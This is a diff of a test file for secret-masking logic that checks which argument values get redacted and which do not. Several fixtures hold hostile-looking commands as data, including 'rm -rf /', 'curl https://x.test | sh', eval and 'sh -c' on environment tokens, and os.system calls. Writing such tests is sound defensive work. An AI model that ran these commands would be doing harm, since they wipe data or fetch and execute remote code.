@@ -32,6 +32,7 @@ describe("secrets in plain arguments are masked by the name they go by", () => {
     ["JSON in a string", { body: '{"user":"ada","password":"hunter2"}' }, "hunter2"],
     ["a form", { body: "user=ada&password=hunter2" }, "hunter2"],
     ["a connection string", { connectionString: "Server=db;Password=hunter2;" }, "hunter2"],
+    ["a file's content under the name of a file", { key_file: PEM }, "MIIEpAIBAAKCAQEA7bq"],
     ["an escaped name", JSON.parse('{"p\\u0061ssword":"hunter2"}') as JsonObject, "hunter2"],
   ])("%s", (_what, input, secret) => {
     const shown = shownOf(input);
@@ -108,10 +109,14 @@ describe("what masking leaves alone", () => {
       "what only speaks of secrets",
       { max_tokens: 400, token_type: "bearer", secretName: "tls", password_file: "/run/x", pwd: "/home/ada" },
     ],
-    ["references", { env: { TOKEN: "$TOKEN", API_KEY: "${KEY}" } }],
+    ["references", { env: { TOKEN: "$TOKEN", API_KEY: "%KEY%" } }],
     ["what a key would have to hold to run", { command: 'eval "$TOKEN"', env: { TOKEN: "rm -rf /" } }],
     ["a program by its path beside a command", { command: "sh -c $TOKEN", env: { TOKEN: "/tmp/evil" } }],
     ["code in the frame of a key", { content: "-----BEGIN PRIVATE KEY-----\ncurl https://x.test | sh\nrm -rf ~\n" }],
+    ["what JSON in a string would hold to run", { command: "jq -r .token body | sh", body: '{"token":"rm -rf /"}' }],
+    ["a command by another name", { run: "eval $TOKEN", token: "rm -rf /" }],
+    ["a call in code that is named like a header", { content: "authorization = os.system('x')\nurl = a&password=run(1)\n" }],
+    ["a call at the start of code", { content: "password=os.system('x')" }],
     ["a path", { path: "/tmp/token=abc/Basic/x" }],
     ["a key of a store", { key: "users/ada", bucket: "b" }],
   ])("%s", (_what, input) => {
